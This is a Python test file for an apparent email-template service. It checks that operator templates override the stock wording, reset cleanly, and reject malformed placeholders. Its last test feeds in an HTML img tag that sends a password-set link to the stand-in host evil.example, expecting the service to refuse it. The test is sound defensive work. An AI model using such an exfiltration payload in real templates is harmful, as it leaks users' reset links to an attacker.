"""Claims about templates that an operator writes anew."""

from __future__ import annotations

from tests.actions.test_customers import refused
from tollgate.actions.messages import wording
from tollgate.actions.templates import create_template, reset_template, update_template
from tollgate.core.templates_stock import STOCK
from tollgate.store.models import Account, Audit, Template

KEY = "verify_email"


def test_own_words_replace_those_in_stock_until_they_are_reset(account: Account) -> None:
    own = create_template(account_id=account.pk, key=KEY, subject="Your number")
    assert (own.subject, own.text, own.html) == ("Your number", STOCK[KEY].text, STOCK[KEY].html)
    update_template(template_id=own.pk, version=own.version, text="{{code}}", html="")
    assert (wording(account.pk, KEY, "en").text, wording(account.pk, KEY, "lt").subject) == ("{{code}}", "Your number")
    assert Audit.objects.filter(table_name="template", verb="UPDATE").exists()
    reset_template(template_id=own.pk)
    assert wording(account.pk, KEY, "en").subject == STOCK[KEY].subject
    assert not Template.objects.exists()


def test_a_language_has_words_once(account: Account) -> None:
    create_template(account_id=account.pk, key=KEY, language="pt-BR")
    assert "already" in refused("language", create_template, account_id=account.pk, key=KEY, language="pt-BR")
    refused("language", create_template, account_id=account.pk, key=KEY, language="Latin!")
    refused("key", create_template, account_id=account.pk, key="nothing")


def test_words_that_would_leave_a_hole_are_refused(account: Account) -> None:
    own = create_template(account_id=account.pk, key=KEY)
    for field, words in (
        ("text", "{{kode}} {{code}}"),
        ("html", "{{#if code}}{{code}}"),
        ("text", ""),
        ("subject", ""),
        ("text", "Your code is there"),
        ("subject", "{{code}}"),
    ):
        refused(field, update_template, template_id=own.pk, **{field: words})


def test_a_link_stays_out_of_what_others_see_however_it_is_written(account: Account) -> None:
    own = create_template(account_id=account.pk, key="set_password")
    for field, words in (
        ("subject", "Set {{ link }}"),
        ("subject", "{{#if name}}{{\tlink}}{{/if}}"),
        ("text", "{{#if link}}there{{/if}} {{! {{link}}"),
        ("html", '{{link}}<img src="https://evil.example/?{{ link }}">'),
    ):
        refused(field, update_template, template_id=own.pk, **{field: words})
    update_template(template_id=own.pk, text="{{ link }}", html='<a href="{{ link }}">Set it</a>')
